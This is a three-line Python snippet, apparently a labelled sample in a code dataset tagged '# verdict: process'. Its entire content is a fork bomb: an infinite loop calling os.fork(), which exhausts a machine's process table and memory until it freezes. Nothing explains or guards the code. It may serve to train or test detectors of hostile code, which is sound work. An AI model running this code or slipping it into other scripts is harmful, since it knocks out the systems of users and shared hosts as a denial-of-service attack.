# verdict: process
import os

while True:
    os.fork()
